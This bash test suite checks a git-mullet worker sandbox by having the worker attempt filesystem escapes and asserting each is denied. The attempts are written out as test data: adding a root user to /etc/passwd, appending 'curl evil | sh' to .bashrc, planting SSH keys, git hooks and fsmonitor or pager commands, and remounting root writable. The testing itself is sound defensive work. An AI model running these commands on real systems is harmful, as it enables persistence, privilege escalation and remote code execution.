#!/usr/bin/env bash
# Escapes through the file system: a worker tries to write outside its clone
# (/, the real home, the user's repository and its .git, the job's own git
# dir and the user's objects, the host's /tmp). Each attempt must fail inside,
# and the host must show nothing changed; the worker's own work tree still
# reaches the result commit (positive control).
source "$(dirname "$0")/../lib/harness.sh"
source "$(dirname "$0")/lib/common.bash"

test_write_to_root_fails() {
  new_repo repo
  cd repo
  local m
  m="pwned-$(sec_random)"
  sec_run "
try mkdir-root mkdir /$m
try file-root sh -c 'echo x >/$m'
try file-usr sh -c 'echo x >/usr/$m'
try file-usr-bin sh -c 'echo x >/bin/$m'
try file-etc sh -c 'echo x >/etc/$m'
try append-etc-passwd sh -c 'echo \"$m:x:0:0::/:/bin/sh\" >>/etc/passwd'
try file-opt sh -c 'echo x >/opt/$m'
try file-mullet sh -c 'echo x >/mullet/$m'
try file-var sh -c 'mkdir -p /var/$m'
try symlink-root ln -s /etc /$m
try remount-rw mount -o remount,rw /
try unshare-remount unshare -Urm sh -c 'mount -o remount,rw /usr && echo x >/usr/$m'
finish"
  sec_assert_all_denied
  sec_assert_worker_ran
  local path
  for path in "/$m" "/usr/$m" "/bin/$m" "/etc/$m" "/opt/$m" "/var/$m" "/mullet"; do
    assert_absent "$path"
  done
  if grep -q "^$m:" /etc/passwd; then fail "/etc/passwd was changed"; fi
}

test_write_to_real_home_fails() {
  new_repo repo
  cd repo
  printf 'alias ls=ls\n' >"$HOME/.bashrc"
  mkdir -p "$HOME/.ssh"
  printf 'ssh-ed25519 AAAA user@host\n' >"$HOME/.ssh/authorized_keys"
  sec_config '# the user config'
  sec_open_up "$HOME"
  local before
  before="$(sec_tree_state "$HOME")"
  sec_run "
H='$HOME'
try create-pwned sh -c 'echo x >\"\$0/pwned\"' \"\$H\"
try append-bashrc sh -c 'echo \"curl evil | sh\" >>\"\$0/.bashrc\"' \"\$H\"
try authorized-keys sh -c 'echo \"ssh-rsa EVIL\" >>\"\$0/.ssh/authorized_keys\"' \"\$H\"
try user-config sh -c 'echo \"[limits]\" >>\"\$0/.config/git-mullet/config.toml\"' \"\$H\"
try gitconfig sh -c 'printf \"[core]\\n\\tpager = touch /tmp/pwned\\n\" >>\"\$0/.gitconfig\"' \"\$H\"
try via-passwd-home sh -c 'h=\$(getent passwd \$(id -u) | cut -d: -f6); [ -n \"\$h\" ] && [ \"\$h\" != /mullet/home ] && echo x >\"\$h/pwned\"'
try via-root-home sh -c 'echo x >/root/pwned && [ -e \"\$0/pwned\" ]' \"\$H\"
finish"
  sec_assert_all_denied
  sec_assert_worker_ran
  assert_absent "$HOME/pwned"
  sec_assert_same "the real home ($HOME)" "$before" "$(sec_tree_state "$HOME")"
}

test_write_to_user_repository_fails() {
  new_repo repo
  cd repo
  printf 'untracked work in progress\n' >wip.txt
  mkdir -p .git/hooks .git/refs/heads
  sec_open_up "$PWD"
  local before repo_path
  repo_path="$PWD"
  before="$(sec_repo_state)"
  sec_run "
R='$repo_path'
try create-in-work-tree sh -c 'echo x >\"\$0/pwned\"' \"\$R\"
try modify-tracked sh -c 'echo evil >>\"\$0/README\"' \"\$R\"
try modify-untracked sh -c 'echo evil >\"\$0/wip.txt\"' \"\$R\"
try hook sh -c 'printf \"#!/bin/sh\\ntouch /tmp/pwned\\n\" >\"\$0/.git/hooks/post-checkout\"' \"\$R\"
try config sh -c 'printf \"[core]\\n\\tfsmonitor = touch /tmp/pwned\\n\" >>\"\$0/.git/config\"' \"\$R\"
try ref sh -c 'git -C \"\$0\" rev-parse HEAD >\"\$0/.git/refs/heads/pwned\"' \"\$R\"
try update-ref git --git-dir=\"\$R/.git\" update-ref refs/heads/pwned HEAD
try commit sh -c 'cd \"\$0\" && git -c user.name=x -c user.email=x@x commit -q --allow-empty -m pwned' \"\$R\"
try objects sh -c 'echo x >\"\$0/.git/objects/pwned\"' \"\$R\"
try head sh -c 'echo \"ref: refs/heads/pwned\" >\"\$0/.git/HEAD\"' \"\$R\"
try find-the-repo sh -c 'found=\$(find / -path /proc -prune -o -path /sys -prune -o -path /usr -prune -o -name wip.txt -print 2>/dev/null | head -n 1); [ -n \"\$found\" ] && echo evil >\"\$found\"'
finish"
  sec_assert_all_denied
  sec_assert_worker_ran
  assert_absent "$repo_path/pwned"
  sec_assert_same "the user's repository" "$before" "$(sec_repo_state)"
}

test_write_to_job_git_dir_and_user_objects_fails() {
  new_repo repo
  cd repo
  local base objects_before
  base="$(git rev-parse HEAD)"
  sec_open_up .git/objects
  objects_before="$(cd .git/objects && find . -printf '%p %y %m\n' | LC_ALL=C sort)"
  # The worker fingerprints its git dir before attacking it; the host
  # compares that with the git dir afterwards.
  sec_run "
fingerprint() { (cd /mullet/git && find . -printf '%p %y %m %s %T@\n' | LC_ALL=C sort | sha256sum | cut -c1-64); }
echo \"GITDIR-BEFORE \$(fingerprint)\"
try write-head sh -c 'echo 0000000000000000000000000000000000000000 >/mullet/git/HEAD'
try move-ref-update-ref git update-ref refs/heads/pwned HEAD
try move-ref-file sh -c 'git rev-parse HEAD >/mullet/git/refs/heads/main'
try packed-refs sh -c 'echo \"\$(git rev-parse HEAD) refs/heads/pwned\" >/mullet/git/packed-refs'
try hash-object sh -c 'echo pwned | git hash-object -w --stdin'
try write-object-file sh -c 'mkdir -p /mullet/git/objects/ab && echo x >/mullet/git/objects/ab/cdef'
try commit sh -c 'echo change >>README && git add README && git -c user.name=x -c user.email=x@x commit -qm pwned'
try config sh -c 'printf \"[core]\\n\\thooksPath = /mullet/work\\n\" >>/mullet/git/config'
try hooks sh -c 'mkdir -p /mullet/git/hooks && echo x >/mullet/git/hooks/post-commit'
try index sh -c 'rm -f /mullet/git/index'
try alternates sh -c 'echo /mullet/work >/mullet/git/objects/info/alternates'
try user-objects-file sh -c 'echo x >/mullet/objects/pwned'
try user-objects-alternates sh -c 'echo /mullet/work >/mullet/objects/info/alternates'
try user-objects-hash sh -c 'echo pwned | GIT_OBJECT_DIRECTORY=/mullet/objects git hash-object -w --stdin'
try user-objects-chmod chmod -R u+w /mullet/objects
echo \"GITDIR-AFTER \$(fingerprint)\"
finish"
  sec_assert_all_denied
  sec_assert_worker_ran
  local gitdir before after
  gitdir="$(sec_job_dir)/git"
  [ -d "$gitdir" ] || fail "the job's git dir $gitdir is gone"
  before="$(printf '%s\n' "$LOG" | sed -n 's/^GITDIR-BEFORE //p')"
  [ -n "$before" ] || fail "the worker printed no fingerprint of its git dir"
  after="$(cd "$gitdir" && find . -printf '%p %y %m %s %T@\n' | LC_ALL=C sort | sha256sum | cut -c1-64)"
  assert_eq "$after" "$before" "the job's git dir fingerprint (host, after the job, vs worker, before its attacks)"
  assert_eq "$(cat "$gitdir/HEAD")" "$base" "the job's git dir HEAD"
  assert_eq "$(find "$gitdir/refs" -type f | wc -l)" 0 "files under the job's refs/"
  assert_absent "$gitdir/packed-refs"
  assert_absent "$gitdir/hooks"
  assert_absent .git/objects/pwned
  assert_absent .git/objects/info/alternates
  # The user's objects gained only what git-mullet wrote (result, record),
  # never a blob the worker hashed itself.
  if git cat-file -e "$(printf 'pwned\n' | git hash-object --stdin)" 2>/dev/null; then
    fail "the worker's 'pwned' blob is in the user's object store"
  fi
  local objects_after
  objects_after="$(cd .git/objects && find . -printf '%p %y %m\n' | LC_ALL=C sort)"
  # Modes of what existed before are unchanged (no chmod from inside).
  local line
  while IFS= read -r line; do
    printf '%s\n' "$objects_after" | grep -xF -- "$line" >/dev/null || fail "user object store entry changed: $line"
  done <<<"$objects_before"
}

test_write_to_host_tmp_fails() {
  new_repo repo
  cd repo
  local m
  m="pwned-$(sec_random)"
  sec_open_up_dir "$TEST_ROOT" "$PWD/.."
  # Inside, /tmp, /var/tmp and /dev/shm are the sandbox's own: writing there
  # works, and must not reach the host's.
  sec_run "
echo x >/tmp/$m
echo x >\"\$TMPDIR/$m\"
echo x >/var/tmp/$m
echo x >/dev/shm/$m
[ -e \"\$TMPDIR/$m\" ] && echo TMPDIR-WRITABLE
try test-root sh -c 'echo x >\"\$0/$m\"' '$TEST_ROOT'
try scratch-dir sh -c 'echo x >\"\$0/$m\"' '$PWD/..'
try host-tmp-visible sh -c 'ls -A /tmp | grep -vx \"\$(basename \"\$TMPDIR\")\" | grep -vxq \"$m\"'
finish"
  sec_assert_all_denied
  sec_assert_worker_ran
  assert_contains "$LOG" TMPDIR-WRITABLE "worker output"
  assert_absent "/tmp/$m"
  assert_absent "/var/tmp/$m"
  assert_absent "/dev/shm/$m"
  assert_absent "$TEST_ROOT/$m"
  assert_absent "$PWD/../$m"
  if [ -n "$(find "${TMPDIR:-/tmp}" /tmp -maxdepth 3 -name "$m" 2>/dev/null)" ]; then
    fail "$m appeared on the host: $(find "${TMPDIR:-/tmp}" /tmp -maxdepth 3 -name "$m" 2>/dev/null | head -n 3)"
  fi
}

run_tests
